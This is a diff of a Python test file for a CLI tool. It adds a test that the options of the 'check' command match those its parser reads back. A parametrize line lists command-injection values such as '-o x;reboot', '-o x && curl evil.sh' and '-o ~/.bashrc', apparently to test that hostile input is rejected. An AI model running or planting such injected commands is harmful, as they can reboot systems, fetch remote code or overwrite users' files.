@@ -20,6 +20,7 @@ import docx
 import jsonschema
 import pypdf
 import pytest
+from typer.main import get_command
 from typer.testing import CliRunner
 
 from contrast.cli import app as cli
@@ -28,7 +29,7 @@ from contrast.labels import CheckName
 from contrast.reading import read_article, read_text
 from contrast.rendering import Provenance, as_text
 from contrast.rendering.carried import Carried, as_carried, from_carried
-from contrast.rendering.command import read_command
+from contrast.rendering.command import _parser, read_command
 from contrast.rendering.html import as_html, draw, read_carried
 from contrast.schema import (
     Check,
@@ -335,6 +336,13 @@ def test_what_stands_above_a_report_is_compared_with_its_source_or_its_text(made
         (told,) = read_carried(made.read_text(encoding="utf-8"), "page").reports
         found = [line.text for line in Sources(made.parent).compare(told.article) if line.is_difference]
         assert [words in line for line in found] == ([True] if part == "article" else [])
+
+
+def test_a_command_is_read_back_with_every_option_that_check_has() -> None:
+    check = get_command(cli).commands["check"]  # type: ignore[attr-defined]
+    told = {option for parameter in check.params for option in (*parameter.opts, *parameter.secondary_opts) if option.startswith("-")}
+    known = {option for action in _parser()._actions for option in action.option_strings}
+    assert told - {"--help"} == known
 
 
 @pytest.mark.parametrize("more", ["-o $(reboot)", "-o x;reboot", "-o x && curl evil.sh", "-o x | sh", "-o ~/.bashrc", "\nreboot"])
